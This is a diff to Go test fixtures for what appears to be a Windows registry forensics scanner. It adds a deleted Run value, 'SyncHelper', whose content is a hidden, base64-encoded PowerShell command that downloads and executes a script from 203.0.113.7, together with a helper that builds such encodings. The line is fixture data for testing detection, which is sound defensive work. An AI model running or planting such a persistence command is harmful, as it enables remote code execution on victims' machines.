@@ -1,6 +1,12 @@
 package samples
 
-import "github.com/hivescan/hivescan/hive/hivetest"
+import (
+	"encoding/base64"
+	"encoding/binary"
+	"unicode/utf16"
+
+	"github.com/hivescan/hivescan/hive/hivetest"
+)
 
 // Hosts returns every sample host: the base hosts, then those of the
 // Session Manager analyzers and of the autostart analyzers.
@@ -50,8 +56,18 @@ func FakeSmssBootExecute() Host {
 func DeletedTraces() Host {
 	user := NTUser("carol")
 	run := `Software\Microsoft\Windows\CurrentVersion\Run`
-	Set(user.Root, run, hivetest.SZ("WindowsUpdate", `C:\Windows\smss.exe -k`))
-	user.After = func(h *hivetest.Hive) error { return h.FreeValue(run, "WindowsUpdate") }
+	Set(user.Root, run,
+		hivetest.SZ("SyncHelper", "powershell.exe -nop -w hidden -enc "+encodedPowerShell(`IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')`)),
+		hivetest.SZ("WindowsUpdate", `C:\Windows\smss.exe -k`))
+	user.After = func(h *hivetest.Hive) error {
+		// SyncHelper goes first, from the middle of the list: nothing
+		// then tells which key held it. WindowsUpdate, then last, leaves
+		// its offset in the list's slack.
+		if err := h.FreeValue(run, "SyncHelper"); err != nil {
+			return err
+		}
+		return h.FreeValue(run, "WindowsUpdate")
+	}
 	sys := System("HR-PC", [4]uint32{1, 1, 1, 0}, 1)
 	services := At(sys.Root, `ControlSet001\Services`)
 	services.DeletedSubkeys = append(services.DeletedSubkeys, &hivetest.Key{
@@ -65,7 +81,18 @@ func DeletedTraces() Host {
 	})
 	return Host{
 		Name:  "deleted-traces",
-		About: "a Run value and a service that launched a fake smss.exe, deleted after use: found only in the hives' deleted records",
+		About: "a Run value and a service that launched a fake smss.exe, and a Run value with an encoded PowerShell download, deleted after use: found only in the hives' deleted records",
 		Hives: []Hive{sys, Software(), Default(), user},
 	}
+}
+
+// encodedPowerShell encodes a script as powershell -EncodedCommand takes it:
+// base64 of UTF-16LE.
+func encodedPowerShell(script string) string {
+	u := utf16.Encode([]rune(script))
+	b := make([]byte, 2*len(u))
+	for i, c := range u {
+		binary.LittleEndian.PutUint16(b[2*i:], c)
+	}
+	return base64.StdEncoding.EncodeToString(b)
 }
